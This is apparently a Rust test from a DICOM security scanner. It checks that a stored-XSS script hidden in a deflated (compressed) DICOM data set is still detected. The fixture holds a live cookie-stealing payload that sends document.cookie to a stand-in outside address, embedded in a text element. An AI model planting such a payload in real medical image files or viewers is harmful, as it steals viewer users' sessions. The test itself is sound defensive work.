//! Review finding: a deflated transfer syntax hid stored XSS. A web viewer inflates the
//! data set before it renders a text element, so markup there is as live as in an
//! uncompressed file. DCMTK's `dcmconv +td` writes the deflated file, as a modality or
//! router would.
#![allow(clippy::disallowed_methods)] // the test writes its fixture for dcmconv

use std::process::Command;

use pacsguard_dicom::{Format, inspect};
use pacsguard_events::FindingKind;
use pacsguard_testkit::DicomBuilder;

#[test]
fn script_in_a_deflated_data_set_is_found() {
    let script = b"<script>fetch('//198.51.100.7/?'+document.cookie)</script>";
    let plain = DicomBuilder::ct("1.2.826.0.1.3680043.10.1137.20.1")
        .without_pixels()
        .element(0x0040, 0x0280, *b"ST", script)
        .build();
    let dir = tempfile::tempdir().expect("tempdir");
    let (input, output) = (
        dir.path().join("plain.dcm"),
        dir.path().join("deflated.dcm"),
    );
    std::fs::write(&input, &plain).expect("write");
    let converted = match Command::new("dcmconv")
        .arg("+td")
        .arg(&input)
        .arg(&output)
        .output()
    {
        Ok(out) => out,
        Err(_) => {
            eprintln!("dcmconv not installed (scripts/setup-test-deps.sh installs dcmtk): skipped");
            return;
        }
    };
    assert!(
        converted.status.success(),
        "dcmconv: {}",
        String::from_utf8_lossy(&converted.stderr)
    );
    let deflated = std::fs::read(&output).expect("read");
    assert!(
        !deflated.windows(8).any(|w| w == b"<script>"),
        "the script is only in the compressed bytes"
    );
    let found = inspect(&deflated);
    assert!(
        found
            .observations
            .iter()
            .any(|o| o.kind == FindingKind::ActiveContent && o.format == Some(Format::Html)),
        "{:#?}",
        found.observations
    );
}
